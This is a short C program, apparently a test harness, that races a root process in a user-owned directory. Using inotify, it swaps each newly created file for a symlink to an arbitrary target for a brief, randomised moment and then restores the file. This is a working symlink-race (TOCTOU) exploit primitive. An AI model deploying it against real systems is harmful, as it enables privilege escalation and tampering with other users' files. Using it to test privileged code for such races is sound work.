/*
 * A user who waits for root in a directory of the user's own: as soon as a file is made there, or renamed to there, it is moved away and a link to
 * somebody else's file takes its place, for a moment. Usage: racer UID DIRECTORY TARGET. Ends when its standard input is closed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 4) return 2;
  uid_t uid = atoi(argv[1]);
  if (setgroups(0, NULL) != 0 || setgid(uid) != 0 || setuid(uid) != 0 || chdir(argv[2]) != 0) return 3;
  const char *target = argv[3];
  int watch = inotify_init1(IN_NONBLOCK);
  if (inotify_add_watch(watch, ".", IN_CREATE | IN_MODIFY | IN_MOVED_TO | IN_ATTRIB) < 0) return 4;
  if (write(1, "ready\n", 6) != 6) return 5;
  unsigned long rounds = 0, swapped = 0;
  char buffer[65536] __attribute__((aligned(8)));
  for (;;) {
    struct pollfd fds[2] = {{.fd = watch, .events = POLLIN}, {.fd = 0, .events = POLLIN}};
    poll(fds, 2, 1000);
    if (fds[1].revents != 0) break;
    ssize_t length = read(watch, buffer, sizeof buffer);
    for (char *at = buffer; at < buffer + length;) {
      struct inotify_event *event = (struct inotify_event *)at;
      at += sizeof *event + event->len;
      struct stat found;
      if (event->len == 0 || strcmp(event->name, "aside") == 0) continue;
      if (lstat(event->name, &found) != 0 || S_ISLNK(found.st_mode)) continue;
      rounds++;
      if (rename(event->name, "aside") != 0) continue;
      if (symlink(target, event->name) != 0) continue;
      swapped++;
      /* Root sees the link for a while, then the file again, as if nothing had been. */
      for (int i = 0; i < (int)(rounds % 7); i++) usleep(150);
      rename("aside", event->name);
    }
  }
  fprintf(stderr, "%lu %lu\n", rounds, swapped);
  return 0;
}
